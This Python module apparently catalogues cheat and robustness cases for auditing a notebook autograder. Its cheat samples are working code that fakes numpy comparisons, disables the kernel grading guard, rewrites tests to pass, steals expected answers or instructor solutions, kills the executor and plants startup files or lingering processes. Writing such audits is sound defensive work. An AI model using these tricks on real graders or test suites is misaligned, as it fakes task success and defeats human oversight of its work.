"""Cheats, hostile submissions and correct-but-noisy solutions for the grader audit.

graders/check_pipeline.py grades each case through the real path (nbgrader, the sandbox, the
kernel guard) and compares it with its honest baseline, cell by cell:

* ``cheat``: the baseline is an honest wrong solution (stubs or a broken function); the cheat
  is the same solution plus the trick. It must gain nothing: no cell scores more than in the
  baseline, and the host is untouched (``host_checks``);
* ``robust``: the reference solution plus something that must not cost points (a deleted or
  moved test cell, tampered metadata, stderr output, a huge output line); full marks, or only
  the cells named in ``lose`` lose points (a crash in native code costs only its tests).

A case's honest part edits library files (``Patch`` with ``file=``), solution cells (``Patch``
with ``cell=``), takes files or solution cells from the release stubs (``stub_files``,
``stub_cells``) and edits the notebook (``NbEdit``); its ``trick`` (Patch and NbEdit) is the
cheat or the noise added on top. ``CI_CASES`` is the fixed part that ``make test`` runs.
"""
from __future__ import annotations

from dataclasses import dataclass

from .audit_catalog import Patch

REF = "needle/quant/reference.py"
SER = "needle/serialization.py"
# a broken writer that labels every tensor F32 (right for float32 tensors only)
_SER_F32_ONLY = Patch('"dtype": _CODE_OF[arr.dtype.name]', '"dtype": "F32"', file=SER)
MARK = "nq-audit-marker"        # processes and files a cheat leaves carry this name


@dataclass(frozen=True)
class NbEdit:
    op: str                     # "insert_after" | "delete" | "metadata" | "retype" | "append"
    target: str | None = None   # grade_id of the cell it acts on
    source: str = ""            # inserted cell's source ("insert_after", "append")
    metadata: dict | None = None  # nbgrader metadata to merge ("metadata")


@dataclass(frozen=True)
class Case:
    name: str
    kind: str                   # "cheat" | "robust"
    description: str
    notebook: str
    patches: tuple = ()         # the honest part (the baseline)
    stub_files: tuple = ()
    stub_cells: tuple = ()
    edits: tuple = ()
    trick: tuple = ()           # the cheat / the noise: Patch and NbEdit on top of it
    lose: tuple = ()            # robust: the only cells allowed to lose points
    host_checks: tuple = ()     # "no_marker_files", "no_marker_process", "small_notebook"
    timeout: int | None = None
    needs_sandbox: bool = False  # only the sandbox defeats it (skipped where none can be made)


# Code a cheating library file runs on import (appended to the stubbed reference.py).
_WALK_UP = f'''
import os as _os
def _steal():
    found = []
    for start in (_os.environ.get("NEEDLE_ROOT", "."), _os.getcwd(), "/", "/work", "/root"):
        d = _os.path.abspath(start)
        for _ in range(6):
            for dirpath, dirnames, filenames in _os.walk(d):
                dirnames[:] = dirnames[:40]
                for f in filenames:
                    if f in ("gradebook.db", "reference.py", "03_quant_basics.ipynb"):
                        p = _os.path.join(dirpath, f)
                        try:
                            if f == "reference.py" and "BEGIN SOLUTION" in open(p).read():
                                found.append(p)
                            elif f != "reference.py":
                                found.append(p)
                        except OSError:
                            pass
                if len(found) > 3:
                    break
            d = _os.path.dirname(d)
    for p in found:
        if p.endswith("reference.py"):
            g = {{}}
            exec(compile(open(p).read(), p, "exec"), g)
            globals().update({{k: v for k, v in g.items() if callable(v)}})
    return found
_STOLEN = _steal()
'''

_AST_TRY = '''
try:
    import ast as _ast
    from IPython import get_ipython as _gi
    class _Swallow(_ast.NodeTransformer):
        def visit_Module(self, node):
            handler = _ast.ExceptHandler(type=_ast.Name("BaseException", _ast.Load()), name=None,
                                         body=[_ast.Pass()])
            node.body = [_ast.Try(body=node.body or [_ast.Pass()], handlers=[handler],
                                  orelse=[], finalbody=[])]
            return _ast.fix_missing_locations(node)
    if _gi() is not None and not any(type(t).__name__ == "_Swallow"
                                     for t in _gi().ast_transformers):
        _gi().ast_transformers.append(_Swallow())
except ImportError:
    pass
'''

_FAKE_NUMPY = '''
import numpy as _np
import numpy.testing as _npt
_np.allclose = lambda *a, **k: True
_np.isclose = lambda *a, **k: _np.True_
_np.array_equal = lambda *a, **k: True
_npt.assert_allclose = lambda *a, **k: None
_npt.assert_array_equal = lambda *a, **k: None
'''

_HOOKS = '''
import sys as _sys
try:
    from IPython import get_ipython as _gi
    _ip = _gi()
    if _ip is not None:
        _ip.set_custom_exc((BaseException,), lambda self, etype, value, tb, tb_offset=None: None)
        _ip.showtraceback = lambda *a, **k: None
        _sys.excepthook = lambda *a: None
except ImportError:
    pass
'''

_ESCAPE = f'''
import os as _os, subprocess as _sp
for _d in (_os.environ.get("NEEDLE_ROOT", "."), "..", "../..", "../../..", "/work", "/tmp"):
    for _sub in ("", "release", "release/needle/quant", "build/check/release"):
        try:
            _p = _os.path.join(_d, _sub, "{MARK}.txt")
            open(_p, "w").write("left by a student")
        except OSError:
            pass
try:
    _sp.Popen(["sh", "-c", "exec -a {MARK} sleep 600"], start_new_session=True,
              stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
except OSError:
    pass
for _k in ("NQ_GRADING_RECORD", "HOME"):
    try:
        open(_os.environ[_k] if _k != "HOME" else _os.path.join(_os.environ[_k], ".x"),
             "w").write("{{}}")
    except (KeyError, OSError):
        pass
'''

# The guard taken over from inside: every function the garbage collector knows whose code
# comes from the guard answers "ok" and every dict holding a "check"/"restore" entry gets
# functions that do; then every later cell is wrapped in try/except and numpy faked.
_TAKE_OVER_GUARD = '''
def _take_over():
    import gc as _gc
    _ok = lambda *a, **k: "ok"
    try:
        _objs = _gc.get_objects()
    except Exception:
        return
    for _o in _objs:
        try:
            if isinstance(_o, dict) and ("check" in _o or "restore" in _o or "seal" in _o):
                for _k in list(_o):
                    if callable(_o[_k]):
                        _o[_k] = _ok
            elif callable(_o) and "grading guard" in getattr(getattr(_o, "__code__", None),
                                                             "co_filename", ""):
                _o.__code__ = _ok.__code__
        except Exception:
            pass
_take_over()
''' + _AST_TRY + _FAKE_NUMPY

# Patches numpy's comparisons from inside the tested function, then undoes it after the test
# cell (a post_run_cell callback that unregisters itself): nothing is left for a check that
# runs after the cell.
_PATCH_DURING_TEST = '''
def quantize(x, scale, zero_point, dtype="uint8", **kw):
    import numpy as _np, numpy.testing as _npt
    from IPython import get_ipython as _gi
    saved = {k: getattr(_np, k) for k in ("allclose", "array_equal", "isclose")}
    saved_t = {k: getattr(_npt, k) for k in ("assert_allclose", "assert_array_equal")}
    _np.allclose = _np.array_equal = lambda *a, **k: True
    _np.isclose = lambda *a, **k: _np.True_
    _npt.assert_allclose = _npt.assert_array_equal = lambda *a, **k: None
    ip = _gi()
    def _undo(*a):
        for k, v in saved.items():
            setattr(_np, k, v)
        for k, v in saved_t.items():
            setattr(_npt, k, v)
        ip.events.unregister("post_run_cell", _undo)
    if ip is not None:
        ip.events.register("post_run_cell", _undo)
    return _np.zeros(_np.shape(x), dtype)
'''

# Answers with whatever the calling test holds: an array of the right shape and dtype in the
# caller's frame (or any frame below it) or among the notebook's globals.
_STEAL_EXPECTED = '''
def quantize(x, scale, zero_point, dtype="uint8", **kw):
    import sys as _sys, numpy as _np
    shape, pools = _np.shape(x), []
    try:
        f = _sys._getframe(1)
        while f is not None:
            pools.append(dict(f.f_locals))
            f = f.f_back
    except Exception:
        pass
    try:
        from IPython import get_ipython as _gi
        pools.append(dict(_gi().user_ns))
    except Exception:
        pass
    for pool in pools:
        for v in pool.values():
            if isinstance(v, _np.ndarray) and v.shape == shape and v.dtype == _np.dtype(dtype) \\
                    and v is not x:
                return v.copy()
    return _np.zeros(shape, dtype)
'''

_KILL_EXECUTOR = '''
import os as _os, signal as _signal
try:
    _os.kill(_os.getppid(), _signal.SIGKILL)
except OSError:
    pass
'''

_FORGE_IDLE = '''
def _forge_idle():
    from IPython import get_ipython
    k = get_ipython().kernel
    parent = k.get_parent()
    k.session.send(k.iopub_socket, "status", {"execution_state": "idle"}, parent=parent)
'''

_DISPLAYHOOK = '''
def _score(x):
    import sys
    sys.displayhook(3.0)
    return x
'''


# Rewrites the released library tests (every test returns at once, a conftest hook reports
# every test as passed) and the workspace's course manifest, on import of the library.
_REWRITE_TESTS = '''
import os as _os, re as _re
_root = _os.environ.get("NEEDLE_ROOT", ".")
_tests = _os.path.join(_root, "tests")
try:
    for _f in _os.listdir(_tests):
        if _f.endswith(".py"):
            _p = _os.path.join(_tests, _f)
            try:
                _t = open(_p).read()
                _t = _re.sub(r"(\\n( *)def test_\\w+\\(.*?\\):)", r"\\1\\n\\2    return", _t)
                if _f == "conftest.py":
                    _t += ("\\nimport pytest as _pt\\n@_pt.hookimpl(hookwrapper=True)\\n"
                           "def pytest_runtest_makereport(item, call):\\n"
                           "    _o = yield\\n    _o.get_result().outcome = 'passed'\\n")
                open(_p, "w").write(_t)
            except OSError:
                pass
    _m = _os.path.join(_root, "course", "manifest.py")
    _t = open(_m).read()
    open(_m, "w").write(_t.replace("NOTEBOOKS = [", "NOTEBOOKS = [] and [", 1))
except OSError:
    pass
'''

# Replaces course.tools.run_library_tests (the library-tests cell's runner) in memory.
_FAKE_RUNNER = '''
try:
    import course.tools as _ct
    _ct.run_library_tests = lambda root, prefixes, **kw: {p: None for p in prefixes}
except ImportError:
    pass
'''

# Neuters the kernel guard wherever it can be found by name, then fakes numpy's comparisons.
_NEUTER_GUARD = '''
import gc as _gc, sys as _sys
class _Yes:
    def __getattr__(self, name):
        return lambda *a, **k: "ok"
for _c in object.__subclasses__():
    if _c.__name__ == "Guard" or hasattr(_c, "call"):
        for _m in ("restore", "check", "save", "rebase"):
            try:
                setattr(_c, _m, lambda self, *a, **k: "ok")
            except (TypeError, AttributeError):
                pass
        try:
            _c.call = staticmethod(lambda method, nonce, *a: "ok|" + "0" * 64)
        except (TypeError, AttributeError):
            pass
for _k in [k for k, v in list(_sys.modules.items()) if type(v).__name__ == "Guard"]:
    _sys.modules[_k] = _Yes()
''' + _FAKE_NUMPY

# On the first call: an IPython startup file in HOME that fakes numpy's comparisons, a process
# left running, then the kernel killed, so the next kernel would start with the startup file.
_PLANT_STARTUP = f'''
_choose_qparams_impl = choose_qparams


def choose_qparams(*args, **kwargs):
    import os, signal, subprocess
    flag = os.path.join(os.environ.get("TMPDIR", "/tmp"), "{MARK}-planted")
    if not os.path.exists(flag):
        d = os.path.join(os.path.expanduser("~"), ".ipython", "profile_default", "startup")
        os.makedirs(d, exist_ok=True)
        with open(os.path.join(d, "00-fake.py"), "w") as fh:
            fh.write("import numpy as np\\nnp.allclose = lambda *a, **k: True\\n"
                     "np.testing.assert_allclose = lambda *a, **k: None\\n")
        open(flag, "w").close()
        subprocess.Popen(["sh", "-c", "exec -a {MARK} sleep 600"], start_new_session=True)
        os.kill(os.getpid(), signal.SIGKILL)
    return _choose_qparams_impl(*args, **kwargs)
'''

_ZERO_QUANTIZE = ("def quantize(x, scale, zero_point, dtype='uint8', **kw):\n"
                  "    return np.zeros(np.shape(x), dtype)\n")


def _append(code, file=REF):
    """A patch appending ``code`` at the end of a library file."""
    return Patch("", "\n\n" + code, file=file)


def _wrap(func, before):
    """A patch wrapping library function ``func`` of reference.py: ``before`` runs first."""
    return _append(f"_{func}_impl = {func}\n\n\ndef {func}(*args, **kwargs):\n"
                   f"    {before}\n    return _{func}_impl(*args, **kwargs)\n")


def _stubbed_with(code, after="import numpy as np\n"):
    """A patch appending ``code`` to the stubbed reference.py (after its numpy import)."""
    return Patch(after, after + code, file=REF)


CASES = [
    # -- cheats: each on top of stubs, must gain nothing
    Case("read_instructor_files", "cheat",
         "walks up from NEEDLE_ROOT / cwd / / for the instructor's reference.py, notebooks and "
         "gradebook and uses the model solution", "03_quant_basics",
         trick=(_stubbed_with(_WALK_UP),), needs_sandbox=True, stub_files=(REF,)),
    Case("ast_transformer_swallows", "cheat",
         "a library file adds an IPython AST transformer wrapping every later cell in try/except",
         "03_quant_basics", trick=(_stubbed_with(_AST_TRY),), stub_files=(REF,)),
    Case("fake_numpy_comparisons", "cheat",
         "a library file the tests reload replaces np.allclose / isclose / array_equal / "
         "testing.assert_allclose with functions that always agree", "03_quant_basics",
         patches=(_append(_ZERO_QUANTIZE),),
         trick=(_stubbed_with(_FAKE_NUMPY),), stub_files=(REF,)),
    Case("exception_hooks", "cheat",
         "a library file installs a custom exception handler, replaces showtraceback and "
         "sys.excepthook", "03_quant_basics", trick=(_stubbed_with(_HOOKS),),
         stub_files=(REF,)),
    Case("displayhook_score", "cheat",
         "the library's solutions call sys.displayhook(3.0) before returning a wrong value, so "
         "the test cell's first output is an execute_result", "01_save_load",
         stub_files=(SER,),
         trick=(_append(_DISPLAYHOOK + '''
def write_safetensors(f, arrays, metadata):
    _score(None)
def read_safetensors_header(f, path, file_size):
    return _score(({}, 8))
''', file=SER),)),
    Case("shadow_readonly_helper", "cheat",
         "an extra cell after the read-only example data keeps only the float32 tensor, which "
         "the broken writer handles", "01_save_load",
         patches=(_SER_F32_ONLY,),
         trick=(NbEdit("insert_after", "example_tensors",
                       'tensors = {"w": tensors["w"]}'),)),
    Case("delete_readonly_helper", "cheat",
         "deletes the read-only example-data cell and writes a smaller one in its place",
         "01_save_load",
         patches=(_SER_F32_ONLY,),
         trick=(NbEdit("delete", "example_tensors"),
                NbEdit("insert_after", "setup",
                       'import numpy as np\ntensors = {"w": np.ones((3, 4), np.float32)}'))),
    Case("forged_extra_grade_cell", "cheat",
         "adds a cell with grading metadata (grade: true, 50 points) that always passes",
         "03_quant_basics", stub_files=(REF,),
         trick=(NbEdit("insert_after", "setup", "pass", metadata={
             "grade": True, "solution": False, "locked": False, "points": 50,
             "grade_id": "bonus", "schema_version": 3}),)),
    Case("relabel_test_as_solution", "cheat",
         "marks a test cell as a solution cell and empties it", "03_quant_basics",
         stub_files=(REF,),
         trick=(NbEdit("metadata", "test_quantize", "pass",
                       metadata={"solution": True, "grade": False, "locked": False}),)),
    Case("escape_sandbox", "cheat",
         "a library file writes files into release/ and the workspace, leaves a process running "
         "and writes the grading record named in the environment", "03_quant_basics",
         trick=(_stubbed_with(_ESCAPE),), needs_sandbox=True, stub_files=(REF,),
         host_checks=("no_marker_files", "no_marker_process")),
    Case("kill_executor", "cheat",
         "a library file kills its parent process (the notebook executor) to leave a notebook "
         "without errors", "03_quant_basics",
         trick=(_stubbed_with(_KILL_EXECUTOR),), needs_sandbox=True, stub_files=(REF,)),
    Case("forged_idle_status", "cheat",
         "a wrong solution publishes a forged 'idle' status before it fails, hiding the error",
         "03_quant_basics", stub_cells=("impl_per_channel",),
         trick=(NbEdit("append_to", "impl_per_channel", _FORGE_IDLE + '''
def per_channel_weight_qparams(w):
    _forge_idle()
    import time; time.sleep(0.5)
    raise ValueError("wrong")
'''),)),
    Case("print_input_history", "cheat",
         "a cell added after the last test prints the kernel's input history (In), where the "
         "restored test cells, hidden tests and all, would be", "03_quant_basics",
         stub_files=(REF,),
         trick=(NbEdit("insert_after", "test_library", 'print("\\n".join(In))'),),
         host_checks=("no_hidden_tests_in_outputs",)),
    # -- robustness: correct work keeps its marks
    Case("deleted_test_after_readonly", "robust",
         "deletes test_roundtrip, a test cell right after a read-only cell (nbgrader's "
         "add_missing_grade_cells KeyError)", "01_save_load",
         trick=(NbEdit("delete", "test_roundtrip"),)),
    Case("deleted_and_moved_cells", "robust",
         "deletes the read-only setup cell's neighbour test and moves a test cell to the end",
         "03_quant_basics",
         trick=(NbEdit("delete", "test_choose_qparams"), NbEdit("move_to_end", "test_quantize"))),
    Case("tampered_metadata", "robust",
         "edits the nbgrader metadata of test and read-only cells (points, locked, grade_id "
         "type) and the notebook's kernelspec", "03_quant_basics",
         trick=(NbEdit("metadata", "test_requantize", metadata={"points": 100}),
                NbEdit("metadata", "setup", metadata={"locked": False, "grade_id": ["setup"]}),
                NbEdit("kernelspec"))),
    Case("stderr_debug_print", "robust",
         "a correct solution prints debugging output to stderr on every call",
         "03_quant_basics",
         trick=(_wrap("quantize", "import sys; print('debug: quantize', file=sys.stderr)"),)),
    Case("huge_output_line", "robust",
         "a correct solution prints one 50 MB line", "03_quant_basics",
         trick=(NbEdit("append_to", "impl_per_channel",
                       "print('x' * (50 << 20))"),),
         host_checks=("small_notebook",)),
    Case("native_crash_costs_its_tests", "robust",
         "requantize crashes the interpreter (a segfault in native code, through ctypes): only "
         "the test cells that call it lose points (its test and the library-tests cell, which "
         "runs requantize's library tests)", "03_quant_basics",
         trick=(_wrap("requantize", "import ctypes; ctypes.string_at(0)"),),
         lose=("test_requantize", "test_library")),
    Case("memory_bomb_costs_its_test", "robust",
         "quantize_bias allocates 64 GiB (a MemoryError in the sandbox): only its tests lose (its "
         "test cell and the library-tests cell)",
         "03_quant_basics", trick=(_wrap("quantize_bias", "_ = bytearray(64 << 30)"),),
         lose=("test_quantize_bias", "test_library")),
    # -- the grading workspace and the in-kernel guard
    Case("rewrite_released_tests", "cheat",
         "a library file rewrites the released library tests (every test returns at once, a "
         "conftest hook reports all as passed) and empties the workspace's course manifest",
         "03_quant_basics", trick=(_stubbed_with(_REWRITE_TESTS),), needs_sandbox=True,
         stub_files=(REF,)),
    Case("patch_library_runner", "cheat",
         "a library file replaces course.tools.run_library_tests in memory with one that "
         "reports every test as passed", "03_quant_basics",
         trick=(_stubbed_with(_FAKE_RUNNER),), stub_files=(REF,)),
    Case("neuter_grading_guard", "cheat",
         "a library file finds the kernel guard (its class, sys.modules) and makes it answer "
         "'ok', then fakes numpy's comparisons", "03_quant_basics",
         patches=(_append(_ZERO_QUANTIZE),), trick=(_stubbed_with(_NEUTER_GUARD),),
         stub_files=(REF,)),
    Case("take_over_the_guard", "cheat",
         "a library file looks for the kernel guard through the garbage collector, makes its "
         "functions answer 'ok', wraps later cells in try/except and fakes numpy's comparisons",
         "03_quant_basics", patches=(_append(_ZERO_QUANTIZE),),
         trick=(_stubbed_with(_TAKE_OVER_GUARD),), stub_files=(REF,)),
    Case("patch_during_the_test", "cheat",
         "the tested function itself fakes numpy's comparisons and undoes it once the test "
         "cell is over (a post_run_cell callback)", "03_quant_basics",
         patches=(_append(_ZERO_QUANTIZE),), trick=(_append(_PATCH_DURING_TEST),),
         stub_files=(REF,)),
    Case("steal_expected_values", "cheat",
         "the tested function returns an array of the right shape found in the calling test's "
         "frames or the notebook's globals (the test's expected values)", "03_quant_basics",
         patches=(_append(_ZERO_QUANTIZE),), trick=(_append(_STEAL_EXPECTED),),
         stub_files=(REF,)),
    Case("plant_kernel_startup", "cheat",
         "a library function plants an IPython startup file faking numpy's comparisons in HOME, "
         "leaves a process, and kills its kernel so the next kernel would run it",
         "03_quant_basics", patches=(_append(_ZERO_QUANTIZE),), trick=(_append(_PLANT_STARTUP),),
         stub_files=(REF,), needs_sandbox=True, host_checks=("no_marker_process",)),
]

#: the fixed part of the audit that ``make test`` runs (one of each mechanism, the cheap
#: notebooks); ``make audit`` runs every case
CI_CASES = ("read_instructor_files", "fake_numpy_comparisons", "displayhook_score",
            "shadow_readonly_helper", "escape_sandbox", "deleted_test_after_readonly",
            "tampered_metadata", "stderr_debug_print", "native_crash_costs_its_tests",
            "print_input_history", "take_over_the_guard", "patch_during_the_test",
            "steal_expected_values")
